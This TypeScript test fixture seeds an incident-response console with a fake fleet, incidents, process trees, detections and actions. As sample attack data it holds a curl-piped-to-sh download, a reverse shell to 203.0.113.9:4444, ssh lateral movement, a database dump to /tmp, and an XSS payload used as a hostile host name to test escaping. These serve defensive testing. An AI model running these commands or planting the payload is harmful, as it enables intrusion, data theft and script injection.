/**
 * A fleet to look at: hosts in each state, incidents of each severity, an attack among hundreds of processes, a
 * blind time, actions in each phase, and names that a hostile host would choose. In memory, behind the real API.
 */

import type { Host } from '../../controller/api/services.ts'
import {
  AGENT_ID,
  BOOT_ID,
  DETECTION,
  host,
  INCIDENT,
  OTHER_AGENT_ID,
} from '../../controller/api/testing/fixtures.ts'
import type { MemoryController } from '../../controller/api/testing/memory-controller.ts'
import type { Action, ActionState } from '../../controller/dispatch/action.ts'
import type {
  DetectionRecord,
  Incident,
  ProcessNode,
  TimelineEntry,
} from '../../controller/incidents/incident.ts'

export const HOSTILE = '<img src=x onerror="window.owned=1">'
export const QUIET_PROCESSES = 520
const BEGAN_MS = Date.parse('2026-01-02T13:46:51.120Z')

const at = (seconds: number) => new Date(BEGAN_MS + seconds * 1_000).toISOString()
const entity = (agentId: string, pid: number) => `${agentId.slice(0, 8)}.0badcafe.${pid}.${pid * 7}`

const SENSORS = [
  { name: 'ebpf', inForce: true, reason: 'kernel 6.12 has BTF and ring buffers', seen: 182_331, lost: 0 },
  { name: 'fanotify', inForce: true, reason: 'marks on 4 file systems', seen: 20_412, lost: 3 },
  { name: 'polling', inForce: false, reason: 'the kernel sensors are in force', seen: 0, lost: 0 },
]

const ISOLATED = {
  possible: true,
  reason: 'both walls stand',
  state: 'confirmed',
  commandId: 'c'.repeat(32),
  since: at(200),
  leaseEnds: at(90_000),
} as const

function fleet(): readonly Host[] {
  const facts = (agentId: string, hostName: string, more: Partial<Host> = {}): Host => ({
    ...host(agentId, hostName),
    sensors: SENSORS,
    lastSeenAt: at(480),
    certificateExpiresAt: new Date(Date.now() + 20 * 86_400_000).toISOString(),
    ...more,
  })
  const others = Array.from({ length: 60 }, (_, index) =>
    facts(
      (index + 4_096).toString(16).padStart(32, '0'),
      `app-${String(index + 1).padStart(2, '0')}.example`,
      {
        inventory: { ...host('', '').inventory, addresses: [`198.51.100.${index + 1}`] },
        bufferedRows: index % 7 === 0 ? index * 13 : 0,
      },
    ),
  )
  return [
    facts(AGENT_ID, 'web-1', { isolation: ISOLATED }),
    facts(OTHER_AGENT_ID, 'db-1', { state: 'silent', lastSeenAt: at(-86_400), droppedRows: 312 }),
    facts('c'.repeat(32), 'old-1', {
      state: 'revoked',
      sensors: [],
      certificateExpiresAt: at(-10),
      lastSeenAt: null,
    }),
    facts('d'.repeat(32), HOSTILE, { sensors: SENSORS.slice(1) }),
    facts('e'.repeat(32), 'twin-1', {
      state: 'held',
      notice: 'Two hosts use its identity: look at both, then cordon host readmit twin-1.',
    }),
    facts('f'.repeat(32), 'laptop-1', {
      state: 'stopped',
      notice: 'It said that it stops: the host shuts down.',
    }),
    ...others,
  ]
}

const incident = (number: number, more: Partial<Incident>): Incident => ({
  ...INCIDENT,
  id: `INC-${number}`,
  startedAt: at(0),
  detectedAt: at(1),
  openedAt: at(2),
  updatedAt: at(470),
  ...more,
})

const INCIDENTS: readonly Incident[] = [
  incident(7, {
    title: 'Reverse shell started by curl',
    severity: 'critical',
    hosts: [
      { agentId: AGENT_ID, hostName: 'web-1' },
      { agentId: OTHER_AGENT_ID, hostName: 'db-1' },
    ],
    detectionCount: 6,
    actionCount: 4,
  }),
  incident(6, {
    title: `${HOSTILE} wrote a test file`,
    severity: 'high',
    hosts: [{ agentId: 'd'.repeat(32), hostName: HOSTILE }],
    startedAt: at(-3_600),
  }),
  incident(5, {
    title: 'Miner in /dev/shm',
    severity: 'medium',
    status: 'contained',
    containedAt: at(90),
    assignee: 'ada',
    actionCount: 2,
  }),
  incident(4, { title: 'Scan of many ports from one process', severity: 'low' }),
  incident(3, { title: 'A known tool for administrators was started', severity: 'info' }),
  incident(2, { title: 'A drill', status: 'closed', severity: 'high', containedAt: at(40) }),
]

const node = (
  agentId: string,
  pid: number,
  parent: number | null,
  executable: string,
  commandLine: string,
  more: Partial<ProcessNode> = {},
): ProcessNode => ({
  entityId: entity(agentId, pid),
  parentEntityId: parent === null ? null : entity(agentId, parent),
  pid,
  executable,
  commandLine,
  user: 'www-data',
  sha256: null,
  startedAt: at(pid % 400),
  endedAt: null,
  detections: [],
  ...more,
})

const LONG = `/usr/bin/curl -fsSL https://203.0.113.9/${'deeply/nested/'.repeat(20)}payload.sh`

const PATH_NODES: readonly ProcessNode[] = [
  node(AGENT_ID, 1, null, '/usr/lib/systemd/systemd', '/sbin/init', { user: 'root', startedAt: at(-90_000) }),
  node(AGENT_ID, 812, 1, '/usr/sbin/nginx', 'nginx: worker process', { startedAt: at(-80_000) }),
  node(AGENT_ID, 4_100, 812, '/usr/bin/php8.4', 'php-fpm: pool www', { startedAt: at(-20) }),
  node(AGENT_ID, 4_210, 4_100, '/usr/bin/dash', "sh -c 'curl -fsSL https://203.0.113.9/a | sh'", {
    startedAt: at(0),
    detections: ['Web server starts a shell'],
  }),
  node(AGENT_ID, 4_211, 4_210, '/usr/bin/curl', LONG, {
    startedAt: at(1),
    endedAt: at(3),
    detections: ['Download to a shell', 'Known bad address'],
    sha256: 'ab'.repeat(32),
  }),
  node(AGENT_ID, 4_242, 4_210, '/tmp/.x/kworker', '/tmp/.x/kworker -o 203.0.113.9:4444', {
    startedAt: at(11),
    detections: ['Reverse shell', 'Runs from a hidden folder'],
    sha256: 'cd'.repeat(32),
  }),
  node(AGENT_ID, 4_300, 4_242, '/usr/bin/id', 'id -a', { startedAt: at(60), endedAt: at(60.1) }),
  node(AGENT_ID, 4_301, 4_242, '/usr/bin/ssh', 'ssh -o StrictHostKeyChecking=no app@db-1', {
    startedAt: at(140),
    detections: ['Lateral movement by ssh'],
  }),
  node(AGENT_ID, 4_302, 4_242, `/tmp/${HOSTILE}`, `${HOSTILE} --all`, { startedAt: at(150), user: HOSTILE }),
  node(OTHER_AGENT_ID, 900, null, '/usr/sbin/sshd', 'sshd: app@pts/0', { user: 'app', startedAt: at(141) }),
  node(OTHER_AGENT_ID, 931, 900, '/usr/bin/pg_dump', 'pg_dump --format=custom --file=/tmp/.d customers', {
    user: 'app',
    startedAt: at(160),
    detections: ['Database dumped to a temporary folder'],
  }),
]

/** Many of one program, and many of different ones. */
function quietNodes(): readonly ProcessNode[] {
  return Array.from({ length: QUIET_PROCESSES }, (_, index) =>
    node(
      AGENT_ID,
      10_000 + index,
      index % 2 === 0 ? 4_242 : 4_100,
      index % 2 === 0 ? `/usr/bin/tool-${index}` : '/usr/bin/php8.4',
      `tool number ${index}`,
      { startedAt: at(200 + index / 10), endedAt: at(201 + index / 10) },
    ),
  )
}

const detection = (index: number, pid: number, more: Partial<DetectionRecord>): DetectionRecord => ({
  ...DETECTION,
  id: index.toString(16).padStart(32, '0'),
  incidentId: 'INC-7',
  entityId: entity(more.agentId ?? AGENT_ID, pid),
  detectedAt: at(index * 10),
  storedAt: at(index * 10 + 1),
  ...more,
})

const DETECTIONS: readonly DetectionRecord[] = [
  detection(1, 4_210, {
    ruleName: 'Web server starts a shell',
    severity: 'high',
    engine: 'yara',
    filePath: null,
  }),
  detection(2, 4_211, {
    ruleName: 'Download to a shell',
    severity: 'medium',
    engine: 'ioc',
    techniques: ['T1059.004'],
  }),
  detection(3, 4_211, {
    ruleName: 'Known bad address',
    severity: 'low',
    engine: 'ioc',
    indicator: 'ipv4:203.0.113.9',
    filePath: null,
    techniques: ['T1071.001'],
  }),
  detection(4, 4_242, {
    ruleName: 'Reverse shell',
    severity: 'critical',
    techniques: ['T1059', 'T1571'],
    filePath: '/tmp/.x/kworker',
    groupedBecause: 'descends from pid 4210, which was detected before',
  }),
  detection(5, 4_242, {
    ruleName: 'Runs from a hidden folder',
    severity: 'medium',
    filePath: '/tmp/.x/kworker',
  }),
  detection(6, 4_301, { ruleName: 'Lateral movement by ssh', severity: 'high', techniques: ['T1021.004'] }),
  detection(7, 931, {
    agentId: OTHER_AGENT_ID,
    hostName: 'db-1',
    ruleName: 'Database dumped to a temporary folder',
    severity: 'high',
    techniques: ['T1005'],
  }),
]

const entry = (
  seconds: number,
  kind: TimelineEntry['kind'],
  summary: string,
  more: Partial<TimelineEntry> = {},
): TimelineEntry => ({
  at: at(seconds),
  kind,
  hostName: 'web-1',
  summary,
  reference: null,
  until: null,
  ...more,
})

function timeline(): readonly TimelineEntry[] {
  const activity = Array.from({ length: 400 }, (_, index) =>
    entry(
      200 + index / 2,
      index % 3 === 0 ? 'file' : 'process',
      `pid ${10_000 + index} ran tool number ${index}`,
      {
        reference: '0001',
      },
    ),
  )
  return [
    ...DETECTIONS.map((one, index) =>
      entry(
        (index + 1) * 10,
        'detection',
        `${one.ruleName} (${one.severity}) by pid ${one.entityId?.split('.')[2]}`,
        {
          reference: one.id,
          hostName: one.hostName,
        },
      ),
    ),
    entry(12, 'network', 'kworker connected to 203.0.113.9 port 4444 (success)', { reference: '0001' }),
    entry(
      75,
      'blind',
      `Blind from ${at(75)} to ${at(118)}: 312 events of class 3 are lost (the buffer was full).`,
      {
        until: at(118),
        reference: '0001',
      },
    ),
    entry(190, 'status', 'Opened. (controller)', { hostName: null }),
    entry(200, 'action', 'Kill of pid 4242 with its descendants asked for by ada: contain INC-7'),
    entry(240, 'action', 'Kill of pid 4242 with its descendants approved by ada'),
    entry(241, 'action', 'Kill of pid 4242 with its descendants done [gone=true, signal=9]'),
    entry(300, 'note', `ada: it came in through the upload form ${HOSTILE}`, { hostName: null }),
    entry(310, 'agent', 'Sensor fanotify is in force: marks on 4 file systems'),
    ...activity,
  ].sort((left, right) => (left.at < right.at ? -1 : 1))
}

function action(index: number, states: readonly ActionState[], more: Partial<Action>): Action {
  return {
    id: `${index}`.repeat(32),
    intentId: `${index}`.repeat(32),
    action: 'killProcess',
    class: 'C',
    agentId: AGENT_ID,
    hostName: 'web-1',
    target: { kind: 'process', pid: 4_242, startTicks: 4_242 * 7, bootId: BOOT_ID, executableSha256: null },
    args: { tree: true },
    reason: 'contain INC-7',
    incidentId: 'INC-7',
    requestedBy: 'ada',
    state: states.at(-1) ?? 'requested',
    createdAt: at(200),
    expiresAt: new Date(Date.now() + 800_000).toISOString(),
    steps: states.map((state, step) => ({
      state,
      at: at(200 + step * 0.4),
      by: step === 0 ? 'ada' : step < 3 ? 'controller' : 'agent',
      reason: state === 'refused' ? 'the path is outside of CORDON_AGENT_TEST_ROOT' : '',
      proof: state === 'done' ? { gone: true, signal: 9, descendants: 4 } : {},
    })),
    ...more,
  } as Action
}

const ACTIONS: readonly Action[] = [
  action(4, ['requested', 'awaitingApproval'], {
    target: { kind: 'process', pid: 931, startTicks: 931 * 7, bootId: BOOT_ID, executableSha256: null },
    hostName: 'db-1',
    agentId: OTHER_AGENT_ID,
    reason: 'it copies the customers',
  }),
  action(3, ['requested', 'queued', 'sent', 'received'], {
    action: 'scanPath',
    class: 'R',
    target: { kind: 'path', path: '/srv/www' },
    args: { filesMax: 1_000 },
  }),
  action(2, ['requested', 'awaitingApproval', 'queued', 'sent', 'received', 'refused'], {
    action: 'quarantineFile',
    args: {},
    target: {
      kind: 'file',
      path: `/srv/www/uploads/${HOSTILE}`,
      pathBytes: null,
      device: null,
      inode: null,
      sha256: 'cd'.repeat(32),
    },
  }),
  action(1, ['requested', 'awaitingApproval', 'queued', 'sent', 'received', 'applied', 'probed', 'done'], {}),
]

/** Puts the fleet behind the controller's API. */
export function settle(controller: MemoryController): void {
  const hosts = fleet()
  const all = [...PATH_NODES, ...quietNodes()]
  const isOf = (id: string) => id === 'INC-7'
  Object.assign(controller.services.hosts, {
    list: () => hosts,
    get: (id: string) => hosts.find(({ agentId }) => agentId === id),
  })
  Object.assign(controller.services.incidents, {
    list: ({ status, limit }: { status?: string; limit: number }) =>
      INCIDENTS.filter(
        (one) => !status || (status === 'active' ? one.status !== 'closed' : one.status === status),
      ).slice(0, limit),
    get: (id: string) => INCIDENTS.find((one) => one.id === id),
    detections: (id: string) => (isOf(id) ? DETECTIONS : []),
    timeline: async (id: string) => (isOf(id) ? timeline() : []),
    processTree: async (id: string, scope?: string) =>
      isOf(id) ? (scope === 'path' ? PATH_NODES : all) : [],
    childrenOf: async (_agentId: string, parent: string) =>
      all.filter(({ parentEntityId }) => parentEntityId === parent),
  })
  Object.assign(controller.services.actions, {
    list: ({ incidentId, agentId }: { incidentId?: string; agentId?: string }) =>
      ACTIONS.filter(
        (one) =>
          (incidentId === undefined || one.incidentId === incidentId) &&
          (agentId === undefined || one.agentId === agentId),
      ),
    get: (id: string) => ACTIONS.find((one) => one.id === id),
  })
}
